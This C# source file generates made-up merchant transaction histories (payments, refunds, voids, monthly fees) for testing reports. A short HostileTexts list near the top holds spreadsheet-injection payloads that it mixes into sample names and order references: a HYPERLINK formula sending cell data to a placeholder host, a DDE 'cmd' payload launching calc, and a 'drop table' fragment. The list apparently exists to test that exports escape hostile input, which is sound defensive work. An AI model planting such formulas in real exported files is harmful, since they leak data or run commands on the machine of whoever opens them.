namespace Reports.Generator.Sample;

/// <summary>
/// One merchant's made-up transactions, in the order of their time. Only whole numbers are used, because the last bits
/// of a logarithm or a sine differ between machines; amounts are in the smallest unit of their currency until the end.
/// </summary>
internal sealed class SampleHistory
{
    private const int FollowUpsInThousand = 75;
    private const int RowsForAFee = 50;

    // What a person may type, and what a person may type to harm whoever opens the report in a spreadsheet.
    private static readonly string[] HostileTexts =
    [
        "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Receipt\")", "+965 5555 0101", "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)", "Smith, \"Bob\"", "two\r\nlines", "\ttabbed", "＝1+1", "'quoted'", "_x000D_", "a\nb, \"c\"",
        "<b>&amp;</b>", "نص، \"مقتبس\"", "; drop table",
    ];

    private readonly SampleMerchant _merchant;
    private readonly TimeZoneInfo _zone;
    private readonly SplitMix64 _random;
    private readonly DateOnly _from;
    private readonly DateOnly _until;
    private readonly DateTimeOffset _end;
    private readonly PriorityQueue<Transaction, (DateTimeOffset, int)> _pending = new();
    private int _queued;
    private int _paymentsLeft;
    private int _followUpsLeft;
    private int _order = 100_000;

    public SampleHistory(SampleMerchant merchant, DateOnly from, DateOnly until, ulong seed)
    {
        _merchant = merchant;
        _zone = TimeZoneInfo.FindSystemTimeZoneById(merchant.TimeZone);
        _random = new SplitMix64(seed);
        (_from, _until) = (from, until);
        _end = At(until, TimeSpan.Zero);
    }

    public IEnumerable<Transaction> Transactions(int count)
    {
        var fees = FeeDays().Take(count / RowsForAFee).ToList();
        _followUpsLeft = (count - fees.Count) * FollowUpsInThousand / 1000;
        _paymentsLeft = count - fees.Count - _followUpsLeft;
        foreach (var day in fees)
        {
            Queue(MonthlyFee(day));
        }

        foreach (var (day, payments) in PaymentsByDay(_paymentsLeft))
        {
            for (var i = 0; i < payments; i++)
            {
                QueuePayment(day);
            }

            foreach (var transaction in PendingBefore(At(day.AddDays(1), TimeSpan.Zero)))
            {
                yield return transaction;
            }
        }
    }

    private IEnumerable<Transaction> PendingBefore(DateTimeOffset time)
    {
        while (_pending.TryPeek(out var next, out _) && next.OccurredAt < time)
        {
            yield return _pending.Dequeue();
        }
    }

    private IEnumerable<DateOnly> FeeDays() => Days().Where(day => day.Day == 1);

    private IEnumerable<DateOnly> Days() =>
        Enumerable.Range(0, _until.DayNumber - _from.DayNumber).Select(_from.AddDays);

    /// <summary>Spreads all payments over the days by week, season, growth and chance.</summary>
    private List<(DateOnly Day, int Payments)> PaymentsByDay(int payments)
    {
        var days = Days().ToList();
        var weights = days.ConvertAll(DayWeight);
        long total = weights.Sum(), soFar = 0, placed = 0;
        var spread = new List<(DateOnly, int)>(days.Count);
        for (var i = 0; i < days.Count; i++)
        {
            soFar += weights[i];
            var due = payments * soFar / total;
            spread.Add((days[i], (int)(due - placed)));
            placed = due;
        }

        return spread;
    }

    private long DayWeight(DateOnly day)
    {
        var growth = 1000 + ((day.DayNumber - _from.DayNumber) * 300 / (_until.DayNumber - _from.DayNumber));
        var chance = 80 + _random.Below(41);
        return (long)_merchant.Profile.WeekWeights[(int)day.DayOfWeek]
            * _merchant.Profile.MonthWeights[day.Month - 1]
            * growth
            * chance;
    }

    private void QueuePayment(DateOnly day)
    {
        var currency = Weighted(_merchant.Profile.Currencies, c => c.Weight);
        var method = Weighted(_merchant.Profile.Methods, m => m.Weight);
        var gross = Basket(currency);
        var fee = -((gross * method.FeeBasisPoints) + 5_000) / 10_000;
        var names = _random.InThousand(4) ? HostileTexts : _merchant.Profile.Customers;
        var payment = Row("pay", TransactionType.Payment, PaymentTime(day), currency, gross, fee) with
        {
            OrderReference = _random.InThousand(2) ? _random.Pick(HostileTexts) : $"ORD-{_order++}",
            CustomerName = _random.Pick(names),
            PaymentMethod = method.Name,
        };
        Queue(payment);

        // Selection sampling: every payment is as likely, and exactly the wanted number of follow-ups comes out.
        if (_random.Below(_paymentsLeft--) < _followUpsLeft)
        {
            QueueFollowUps(payment, currency, gross, fee);
        }
    }

    private void QueueFollowUps(Transaction payment, SampleCurrency currency, long gross, long fee)
    {
        if (_random.InThousand(200))
        {
            QueueFollowUp(payment, "void", TransactionType.Void, mostMinutes: 120, currency, -gross, -fee);
            return;
        }

        var refunded = _random.InThousand(550) ? gross : Part(gross, currency);
        QueueFollowUp(payment, "ref", TransactionType.Refund, mostMinutes: 30 * 24 * 60, currency, -refunded, fee: 0);
        if (_followUpsLeft > 0 && refunded < gross && _random.InThousand(150))
        {
            var more = Part(gross - refunded, currency);
            QueueFollowUp(payment, "ref", TransactionType.Refund, mostMinutes: 30 * 24 * 60, currency, -more, fee: 0);
        }
    }

    private void QueueFollowUp(
        Transaction payment,
        string prefix,
        TransactionType type,
        int mostMinutes,
        SampleCurrency currency,
        long gross,
        long fee)
    {
        _followUpsLeft--;
        var secondsLeft = (int)Math.Min(mostMinutes * 60L, (_end - payment.OccurredAt).Ticks / TimeSpan.TicksPerSecond);
        var time = payment.OccurredAt.AddSeconds(1 + _random.Below(secondsLeft - 1));
        Queue(Row(prefix, type, time, currency, gross, fee) with
        {
            OriginalId = payment.Id,
            OrderReference = payment.OrderReference,
            CustomerName = payment.CustomerName,
            PaymentMethod = payment.PaymentMethod,
        });
    }

    private Transaction MonthlyFee(DateOnly day)
    {
        var currency = _merchant.Profile.Currencies[0];
        var fee = _merchant.Profile.MonthlyFee * currency.PerHundredDollars / 10_000;
        return Row("fee", TransactionType.Fee, At(day, TimeSpan.FromHours(3)), currency, gross: 0, -fee) with
        {
            OrderReference = $"Account fee {day.AddMonths(-1):yyyy-MM}",
        };
    }

    private Transaction Row(
        string prefix, TransactionType type, DateTimeOffset time, SampleCurrency currency, long gross, long fee) => new(
            $"{prefix}_{_random.Next():x16}",
            _merchant.Id,
            TimeZoneInfo.ConvertTime(time, _zone),
            type,
            OriginalId: null,
            OrderReference: "",
            CustomerName: "",
            PaymentMethod: "",
            currency.Code,
            Units(gross, currency),
            Units(fee, currency));

    private void Queue(Transaction transaction) =>
        _pending.Enqueue(transaction, (transaction.OccurredAt, _queued++));

    /// <summary>One to four things at prices that are mostly small; now and then a large order.</summary>
    private long Basket(SampleCurrency currency)
    {
        var cents = 0L;
        for (var things = 1 + _random.PickWeighted([55, 27, 12, 6]); things > 0; things--)
        {
            cents += 300 + _random.Below(1 + _random.Below(1 + (_random.InThousand(15) ? 150_000 : 12_000)));
        }

        return Rounded(cents * currency.PerHundredDollars / 10_000, currency);
    }

    /// <summary>A part of an amount, but at least one price step and never more than the whole.</summary>
    private long Part(long whole, SampleCurrency currency) =>
        Math.Min(whole, Rounded(whole * (10 + _random.Below(80)) / 100, currency));

    private static long Rounded(long amount, SampleCurrency currency) =>
        Math.Max(1, amount / currency.PriceStep) * currency.PriceStep;

    private static decimal Units(long amount, SampleCurrency currency) =>
        amount * new decimal(1, 0, 0, isNegative: false, scale: (byte)Currencies.ExponentOf(currency.Code));

    /// <summary>A time of that day, early enough for a follow-up on the last one.</summary>
    private DateTimeOffset PaymentTime(DateOnly day)
    {
        var minute = (_random.PickWeighted(_merchant.Profile.HourWeights) * 60) + _random.Below(60);
        return At(day, TimeSpan.FromMilliseconds((minute * 60_000) + _random.Below(50_000)));
    }

    /// <summary>The instant of a local time; an hour that clocks skip counts as the next.</summary>
    private DateTimeOffset At(DateOnly day, TimeSpan time)
    {
        var local = day.ToDateTime(TimeOnly.MinValue).Add(time);
        local = _zone.IsInvalidTime(local) ? local.AddHours(1) : local;
        return new DateTimeOffset(local, _zone.GetUtcOffset(local));
    }

    private T Weighted<T>(IReadOnlyList<T> items, Func<T, int> weight) =>
        items[_random.PickWeighted([.. items.Select(weight)])];
}
